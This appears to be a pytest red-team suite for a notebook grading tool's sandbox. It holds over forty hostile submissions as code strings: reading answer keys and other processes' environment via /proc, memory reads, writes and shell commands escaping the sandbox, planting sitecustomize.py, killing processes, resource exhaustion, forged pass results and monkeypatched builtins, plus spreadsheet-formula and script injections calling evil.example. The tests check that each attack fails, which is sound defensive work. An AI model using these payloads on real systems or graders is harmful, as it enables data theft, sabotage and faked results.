"""Red team: a hostile class against ``quizkit grade`` with bubblewrap isolation.

Each attack is one submission. Five categories (read, act, fake a pass, stop the batch,
inject), at least three attacks each. Canaries are planted in the answer key, in another
student's notebook and in the grader's environment; after one batch run the tests assert that
every attack scored 0, no canary appears in any output, nothing was written outside the
sandbox's tmpfs, no process is left behind, and the honest students' grades are exactly what
they are without the attackers.
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from grading_support import bwrap_or_skip

from quizkit.quiz.loading import load_bank
from quizkit.grading import Limits, grade_submissions
from quizkit.sandbox.backends import PACKAGE
from quizkit.grading.class_analysis import ClassAnalysis
from quizkit.grading.exporters.base import ExportOptions
from quizkit.grading.exporters.registry import write_exports
from quizkit.grading.exporters.report import report_html
from quizkit.grading.exporters.tables import gradebook_csv, gradebook_json
from quizkit.quiz.records import MIME_TYPE as MIME
from quizkit.quiz.records import bundle, make_record

FIXTURES = Path(__file__).parents[1] / "fixtures" / "grading"
LESSON = "grading-demo"
MARKER = "QKREDTEAM7d41"  # in the command line of every process an attack starts
KEY_CANARY = "CANARY-KEY-5f0c2a"
VICTIM_CANARY = "CANARY-VICTIM-91be77"
ENV_CANARY = "CANARY-ENV-3e8d19"
CANARIES = (KEY_CANARY, VICTIM_CANARY, ENV_CANARY)
# Forty-odd attacks, each in its own sandbox: tens of seconds.
pytestmark = pytest.mark.slow

LIMITS = Limits(wall_s=10, cpu_s=3, memory_mb=1024, tmpfs_mb=16)
RIGHT = {"pick": "B", "evens": ["A", "C"], "ratio": 0.75, "word": "recall"}
WRONG = {"pick": "A", "evens": ["B"], "ratio": 0.1, "word": "nothing"}
RIGHT_CODE = "def double(x):\n    return 2 * x\n"

# name -> (category, code answer). Placeholders: {key} {key_dir} {victim} {host} {marker} {port} {pkg} {site}
CODE_ATTACKS: dict[str, tuple[str, str]] = {
    # --- read what it must never see: the stolen text is raised, so it would land in the feedback
    "read the key by path": ("read", "def double(x):\n    raise Exception(open({key!r}).read())\n"),
    "list the key folder": ("read", "import os\ndef double(x):\n    raise Exception(str(os.listdir({key_dir!r})))\n"),
    "chdir into the key folder": ("read", "import os\nos.chdir({key_dir!r})\ndef double(x):\n    raise Exception(open('grading-demo.yaml').read())\n"),
    "parent's environ": ("read", "import os\ndef double(x):\n    raise Exception(open(f'/proc/{{os.getppid()}}/environ', 'rb').read().decode(errors='replace'))\n"),
    "every process's environ": ("read", "import os\ndef double(x):\n    out = []\n    for p in os.listdir('/proc'):\n        try:\n            out.append(open(f'/proc/{{p}}/environ', 'rb').read().decode(errors='replace'))\n        except OSError:\n            pass\n    raise Exception(' '.join(out))\n"),
    "other notebooks via command lines": ("read", "import os, re\ndef double(x):\n    found = []\n    for p in os.listdir('/proc'):\n        try:\n            cmd = open(f'/proc/{{p}}/cmdline', 'rb').read().decode(errors='replace')\n        except OSError:\n            continue\n        for path in re.findall(r'/[^\\x00]+\\.ipynb', cmd):\n            try:\n                found.append(open(path).read())\n            except OSError:\n                pass\n    raise Exception(' '.join(found) or 'nothing')\n"),
    "read the victim by path": ("read", "def double(x):\n    raise Exception(open({victim!r}).read())\n"),
    "search the filesystem": ("read", "import os\ndef double(x):\n    hits = []\n    for root, dirs, files in os.walk('/'):\n        if root.startswith(('/proc', '/sys', '/dev', '/usr')):\n            dirs[:] = []\n            continue\n        for f in files:\n            if f.endswith(('.yaml', '.ipynb')):\n                try:\n                    hits.append(open(os.path.join(root, f), errors='replace').read())\n                except OSError:\n                    pass\n    raise Exception(' '.join(hits)[-5000:])\n"),
    "raw memory via ctypes": ("read", "import ctypes, os\ndef double(x):\n    libc = ctypes.CDLL(None)\n    buf = ctypes.create_string_buffer(4096)\n    class iovec(ctypes.Structure):\n        _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n    local = iovec(ctypes.cast(buf, ctypes.c_void_p), 4096)\n    got = []\n    for pid in range(1, 400):\n        for addr in (0x400000, 0x555555554000):\n            remote = iovec(addr, 4096)\n            if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:\n                got.append(buf.raw)\n    raise Exception(repr(b''.join(got))[-3000:])\n"),
    "inherited file descriptors": ("read", "import os\ndef double(x):\n    out = []\n    for fd in range(3, 256):\n        try:\n            out.append(os.read(fd, 65536).decode(errors='replace'))\n        except OSError:\n            pass\n    raise Exception(' '.join(out))\n"),
    "grader's home": ("read", "import os\ndef double(x):\n    raise Exception(str(os.listdir(os.path.expanduser('~root'))) + str(os.listdir('/home')))\n"),
    # --- act on the machine
    "write a host file": ("act", "def double(x):\n    open({host!r} + '-write', 'w').write('pwned')\n    return 2 * x + 1\n"),
    "write via a shell": ("act", "import subprocess\ndef double(x):\n    subprocess.run(['sh', '-c', 'echo pwned > ' + {host!r} + '-shell'])\n    return 0\n"),
    "write via dir_fd": ("act", "import os\ndef double(x):\n    d = os.open({host_dir!r}, os.O_RDONLY)\n    fd = os.open('escaped-dirfd', os.O_WRONLY | os.O_CREAT, dir_fd=d)\n    os.write(fd, b'pwned')\n    return 0\n"),
    "sqlite attach": ("act", "import sqlite3\ndef double(x):\n    c = sqlite3.connect(':memory:')\n    c.execute(\"ATTACH DATABASE '\" + {host!r} + \"-sqlite' AS x\")\n    c.execute('CREATE TABLE x.t (a)')\n    return 0\n"),
    "patch the quizkit package": ("act", "def double(x):\n    open('/opt/quizkit/quizkit/quiz/judge.py', 'a').write('\\n# pwned\\n')\n    return 0\n"),
    "plant sitecustomize": ("act", "def double(x):\n    open({site!r} + '/sitecustomize.py', 'w').write('print(1)')\n    return 0\n"),
    "sleeper left behind": ("act", "import subprocess\ndef double(x):\n    subprocess.Popen(['sleep', '300', {marker!r}], start_new_session=True)\n    return 0\n"),
    "double-forked daemon": ("act", "import os, time\ndef double(x):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n            os.execvp('sleep', ['sleep', '301', {marker!r}])\n        os._exit(0)\n    time.sleep(0.2)\n    return 0\n"),
    "kill the parent": ("act", "import os, signal\ndef double(x):\n    os.kill(os.getppid(), signal.SIGKILL)\n    os.kill(1, signal.SIGKILL)\n    return 0\n"),
    "pidfd signal to the parent": ("act", "import os, signal\ndef double(x):\n    fd = os.pidfd_open(os.getppid())\n    signal.pidfd_send_signal(fd, signal.SIGKILL)\n    return 0\n"),
    "kill everything": ("act", "import os, signal\ndef double(x):\n    os.kill(-1, signal.SIGKILL)\n    return 0\n"),
    "fill the disk with small files": ("act", "import os\ndef double(x):\n    for i in range(200000):\n        with open(f'/tmp/f{{i}}', 'w') as f:\n            f.write('x' * 4000)\n    return 0\n"),
    "network to the host": ("act", "import socket\ndef double(x):\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n    s.sendall(b'pwned')\n    return 0\n"),
    "new user namespace": ("act", "import os\ndef double(x):\n    os.unshare(os.CLONE_NEWUSER | os.CLONE_NEWNS)\n    return 0\n"),
    # --- pass the checks without solving the question
    "always-equal object": ("fake", "class Yes:\n    def __eq__(self, other):\n        return True\n    def __abs__(self):\n        return 0\n    def __sub__(self, other):\n        return self\ndef double(x):\n    return Yes()\n"),
    "int subclass equal to all": ("fake", "class Int(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\ndef double(x):\n    return Int(0)\n"),
    "redefine builtins": ("fake", "import builtins\nbuiltins.abs = lambda v: 0\nbuiltins.tuple = lambda *a: (6,)\nbuiltins.isinstance = lambda *a: True\nbuiltins.exec = lambda *a, **k: None\ndef double(x):\n    return 0\n"),
    "forge the result and exit": ("fake", "import os, json\ndef double(x):\n    os.write(3, json.dumps({{'status': 'ran', 'results': [{{'value': 6}}, {{'value': 6}}]}}).encode())\n    os._exit(0)\n"),
    "forge a passed status": ("fake", "import os, json\ndef double(x):\n    for fd in range(1, 10):\n        try:\n            os.write(fd, json.dumps({{'status': 'passed', 'passed_checks': ['doubles three', 'doubles negatives']}}).encode())\n        except OSError:\n            pass\n    os._exit(0)\n"),
    "rewrite the runner's converter": ("fake", "import sys\nrunner = sys.modules['__main__']\nrunner.plain = lambda *a, **k: 6\ndef double(x):\n    return 0\n"),
    "reach the checker's frames": ("fake", "import sys\ndef double(x):\n    f = sys._getframe(1)\n    while f is not None:\n        if 'results' in f.f_locals:\n            f.f_locals['results'].extend([{{'value': 6}}] * 5)\n        f = f.f_back\n    return 6\n"),
    "NaN answer": ("fake", "def double(x):\n    return float('nan')\n"),
    "print a fake verdict": ("fake", "print('{{\"status\": \"ran\", \"results\": [{{\"value\": 6}}, {{\"value\": -8}}]}}')\ndef double(x):\n    return 0\n"),
    "exit zero at import": ("fake", "import os\nos._exit(0)\n"),
    "sys.exit at import": ("fake", "raise SystemExit(0)\n"),
    "huge forged report": ("fake", "import os\ndef double(x):\n    os.write(3, b'[' * (3 << 20))\n    os._exit(0)\n"),
    "deeply nested answer": ("fake", "def double(x):\n    v = []\n    for _ in range(100000):\n        v = [v]\n    return v\n"),
    # --- stop the batch from inside code
    "surrogate in an exception": ("stop", "def double(x):\n    raise ValueError('\\ud800 boom \\udce9')\n"),
    "surrogate in a return value": ("stop", "def double(x):\n    return '\\ud800'\n"),
    "endless loop": ("stop", "def double(x):\n    while True:\n        pass\n"),
    "sleeps forever": ("stop", "import time\ndef double(x):\n    time.sleep(3600)\n"),
    "allocates 10 GB": ("stop", "def double(x):\n    return bytearray(10 * 2**30)\n"),
    "floods its output": ("stop", "import sys\ndef double(x):\n    while True:\n        sys.stdout.write('x' * 65536)\n"),
    "null byte in source": ("stop", "def double(x):\n    return 0 \x00\n"),
}


def notebook(student: str | None, answers: dict[str, object], *, text_cell: str = "") -> dict:
    bank = load_bank(FIXTURES / "grading-demo.yaml")
    outputs = []
    for qid, value in answers.items():
        record = make_record(lesson=LESSON, question=qid, type=bank.questions[qid].type, answer=value,
                             attempts=1, bank_hash=bank.key_hash, student=student, correct=True)
        outputs.append({"output_type": "display_data", "data": bundle(record), "metadata": {}})
    meta = {"quizkit": {"student": student}} if student is not None else {}
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": meta,
            "cells": [{"cell_type": "markdown", "metadata": {}, "source": text_cell},
                      {"cell_type": "code", "metadata": {}, "source": "", "execution_count": 1, "outputs": outputs}]}


def write(path: Path, nb: dict) -> Path:
    path.write_text(json.dumps(nb), encoding="utf-8")
    return path


def attacker(name: str, code: str) -> dict:
    return notebook(f"attacker-{name.replace(' ', '-')}", {**WRONG, "write-double": code})


def marker_processes() -> list[str]:
    """Processes an attack started (by marker), and any sandbox still running (by namespace)."""
    own_ns = os.readlink("/proc/self/ns/pid")
    left = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            ns = os.readlink(f"/proc/{pid}/ns/pid")
        except OSError:
            continue
        if MARKER in cmd or (ns != own_ns and ("runner.py" in cmd or "bwrap" in cmd)):
            left.append(f"{pid}: {cmd}")
    return left


@pytest.fixture(scope="module")
def battle(tmp_path_factory):
    """One batch: the honest class plus every attack; and the honest class graded alone."""
    iso = bwrap_or_skip()
    root = tmp_path_factory.mktemp("redteam")
    private = root / "private"
    private.mkdir()
    key = private / "grading-demo.yaml"
    key.write_text((FIXTURES / "grading-demo.yaml").read_text().replace(
        "    reference: |\n", f"    reference: |\n      # {KEY_CANARY}\n") + f"# {KEY_CANARY}\n")
    subs = root / "subs"
    subs.mkdir()
    honest = [write(subs / "alice.ipynb", notebook("alice", {**RIGHT, "write-double": RIGHT_CODE})),
              write(subs / "bob.ipynb", notebook("bob", {**WRONG, "write-double": "def double(x):\n    return x + 2\n"}))]
    victim = write(subs / "victim.ipynb", notebook("victim", RIGHT, text_cell=f"my notes {VICTIM_CANARY}"))
    honest.append(victim)
    host = root / "host-out"
    host.mkdir()
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.1)
    fill = {"key": str(key), "key_dir": str(private), "victim": str(victim), "host": str(host / "escaped"),
            "host_dir": str(host), "marker": MARKER, "port": server.getsockname()[1],
            "site": __import__("sysconfig").get_paths()["purelib"]}
    attacks: dict[str, tuple[str, Path]] = {}
    for n, (name, (category, code)) in enumerate(CODE_ATTACKS.items()):
        attacks[name] = (category, write(subs / f"code-attack-{n:02d}.ipynb", attacker(name, code.format(**fill))))
    attacks.update(batch_stoppers(subs, victim))
    attacks.update(injections(subs))
    before = set(os.listdir("/tmp"))
    os.environ["QUIZKIT_REDTEAM_SECRET"] = ENV_CANARY
    try:
        book = grade_submissions([*honest, *[p for _, p in attacks.values()]], [key], jobs=2, limits=LIMITS, isolation=iso)
        alone = grade_submissions(honest, [key], jobs=1, limits=LIMITS, isolation=iso)
    finally:
        del os.environ["QUIZKIT_REDTEAM_SECRET"]
    connected = []
    try:
        while True:
            connected.append(server.accept())
    except OSError:
        pass
    server.close()
    time.sleep(0.5)  # give a killed namespace a moment to be reaped before looking for survivors
    return {"book": book, "alone": alone, "attacks": attacks, "honest": honest, "host": host, "connected": connected,
            "tmp_before": before, "subs": subs}


def batch_stoppers(subs: Path, victim: Path) -> dict[str, tuple[str, Path]]:
    """Submissions that once stopped the whole class's gradebook."""
    out: dict[str, tuple[str, Path]] = {}
    surrogate = subs / "surrogate-id.ipynb"
    surrogate.write_text(json.dumps(notebook("\ud800evil", WRONG)), encoding="utf-8")  # json escapes it as \ud800
    out["lone surrogate in the student id"] = ("stop", surrogate)
    out["lone surrogate in a text answer"] = ("stop", write(subs / "surrogate-text.ipynb", notebook("sur-text", {**WRONG, "word": "x\udce9y"})))
    raw = os.fsencode(str(subs)) + b"/\xe9tudiant-\xff.ipynb"
    with open(raw, "w") as fh:
        fh.write(json.dumps(notebook(None, WRONG)))
    out["file name not UTF-8"] = ("stop", Path(os.fsdecode(raw)))
    fifo = subs / "fifo.ipynb"
    os.mkfifo(fifo)
    out["FIFO named .ipynb"] = ("stop", fifo)
    zero = subs / "zero.ipynb"
    zero.symlink_to("/dev/zero")
    out["symlink to /dev/zero"] = ("stop", zero)
    thief = subs / "thief"
    thief.mkdir()
    (thief / "copied.ipynb").symlink_to(victim)
    out["folder with a link to another's notebook"] = ("stop", thief)
    sock_path = subs / "sock.ipynb"
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(sock_path))
    sock.close()
    out["socket named .ipynb"] = ("stop", sock_path)
    deep = subs / "deep.ipynb"
    deep.write_text('{"nbformat": 4, "cells": ' + "[" * 100000 + "]" * 100000 + "}")
    out["JSON nested too deeply"] = ("stop", deep)
    return out


def injections(subs: Path) -> dict[str, tuple[str, Path]]:
    """Spreadsheet formulas and markup in ids, file names and statuses."""
    out = {}
    for sid in (['=HYPERLINK("http:evil.example?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                             "\tTAB", "\rCR", "<script>alert(1)</script>"]):
        nb = notebook(sid, WRONG)
        stray = json.loads(json.dumps(nb["cells"][1]["outputs"][0]))
        stray["data"][MIME]["question"] = "no-such-question"  # a problem, so the report lists this student
        nb["cells"][1]["outputs"].append(stray)
        out[f"id {sid!r}"] = ("inject", write(subs / f"{sid.replace('/', '_')}.ipynb", nb))  # the path is the id
    named = subs / "=cmd.ipynb"
    named.write_text("{")  # invalid: its status starts with the file name
    out["formula file name"] = ("inject", named)
    out["formula in a code error"] = ("inject", write(subs / "inject-code.ipynb", attacker(
        "formula-code", "def double(x):\n    raise Exception('=HYPERLINK(\"http://evil\")')\n")))
    return out


def test_the_suite_has_at_least_40_attacks_and_3_per_category(battle):
    categories = [category for category, _ in battle["attacks"].values()]
    assert len(categories) >= 40
    for category in ("read", "act", "fake", "stop", "inject"):
        assert categories.count(category) >= 3, category


def test_every_attack_scores_zero(battle):
    book = battle["book"]
    by_source = {s.source: s for s in book.students}
    for name, (_, path) in battle["attacks"].items():
        student = by_source[str(path)]
        assert book.total(student) == 0, (name, student.status, {k: a.reason for k, a in student.answers.items()})


def test_no_canary_in_any_output(battle):
    book = battle["book"]
    analysis = ClassAnalysis.from_gradebook(book)
    outputs = [gradebook_csv(book), gradebook_json(book, analysis), report_html(book, analysis)]
    for text in outputs:
        for canary in CANARIES:
            assert canary not in text


def test_nothing_written_outside_the_sandbox_and_no_process_left(battle):
    assert list(battle["host"].iterdir()) == []
    assert not list(PACKAGE.rglob("*pwned*")) and "pwned" not in (PACKAGE / "quiz" / "judge.py").read_text()
    assert not (Path(__import__("sysconfig").get_paths()["purelib"]) / "sitecustomize.py").exists()
    assert battle["connected"] == []
    new_tmp = set(os.listdir("/tmp")) - battle["tmp_before"]
    assert not [n for n in new_tmp if n.startswith(("quizkit-compute-", "f1", "escaped"))]
    assert marker_processes() == []


def test_honest_grades_are_unchanged_by_the_attackers(battle):
    def totals(book):
        return {s.source: (book.total(s), {k: a.points for k, a in s.answers.items()}) for s in book.students
                if Path(s.source) in battle["honest"]}

    assert totals(battle["book"]) == totals(battle["alone"])
    alice = next(s for s in battle["alone"].students if s.student == "alice")
    assert battle["alone"].total(alice) == battle["alone"].max_points == 7


def test_each_attack_gets_a_clear_status_or_reason(battle):
    book = battle["book"]
    by_source = {s.source: s for s in book.students}

    def reason(name):
        student = by_source[str(battle["attacks"][name][1])]
        answer = student.answers.get(f"{LESSON}/write-double")
        return student.status + " | " + (answer.reason if answer else "")

    assert "FIFO (named pipe), not read" in reason("FIFO named .ipynb")
    assert "a symbolic link, not read" in reason("symlink to /dev/zero")
    assert "copied.ipynb: a symbolic link, not read" in reason("folder with a link to another's notebook")
    assert "a socket, not read" in reason("socket named .ipynb")
    assert "nested too deeply" in reason("JSON nested too deeply")
    assert "code timeout" in reason("endless loop")
    assert "code timeout" in reason("sleeps forever")
    assert "MemoryError" in reason("allocates 10 GB") or "memory" in reason("allocates 10 GB")
    assert "returned a Yes object" in reason("always-equal object")
    assert "expected -8, got 6" in reason("forge the result and exit")
    assert "without a readable report" in reason("forge a passed status")
    # read-only mount; as root the unprivileged sandbox uid is refused before that
    assert "Read-only file system" in reason("patch the quizkit package") or "Permission denied" in reason("patch the quizkit package")


def test_outputs_are_written_whatever_the_text(battle, tmp_path):
    book = battle["book"]
    written = write_exports(book, ["csv", "json", "html"], ExportOptions(tmp_path / "gradebook.csv", tmp_path / "report.html")).paths
    data = json.loads(written[1].read_text(encoding="utf-8"))
    assert any("\\ud800evil" in s["status"] for s in data["students"])  # the notebook's id, escaped, shown only
    assert any("\\udce9tudiant-\\udcff" in s["source"] for s in data["students"])
    assert any(s["student"] == '=HYPERLINK("http:evil.example?"&A1,"open")' for s in data["students"])  # JSON: raw
    rows = list(csv.reader(io.StringIO(written[0].read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http:evil.example?\"&A1,\"open\")" in cells and "'@SUM(A1:A9)" in cells
    assert "'-2+3" in cells and "?TAB" in cells  # a tab in an id is shown as ?
    assert any(c.startswith("'=cmd.ipynb: invalid notebook") for c in cells)
    html = written[2].read_text(encoding="utf-8")
    assert "<script>" not in html and "&lt;script&gt;" in html
    done = subprocess.run([sys.executable, "-c", "print('ok')"], capture_output=True, text=True, check=False)
    assert done.stdout == "ok\n"  # the grader's machine is still fine


def test_the_fifo_did_not_hang_the_batch(battle):
    # The batch finished (a blocking open of the FIFO would have hung it until pytest's timeout)
    # and names the FIFO for what it is, without having read from it.
    assert stat.S_ISFIFO(os.lstat(battle["subs"] / "fifo.ipynb").st_mode)
    fifo = next(s for s in battle["book"].students if s.student == "fifo")
    assert "a FIFO (named pipe)" in fifo.status
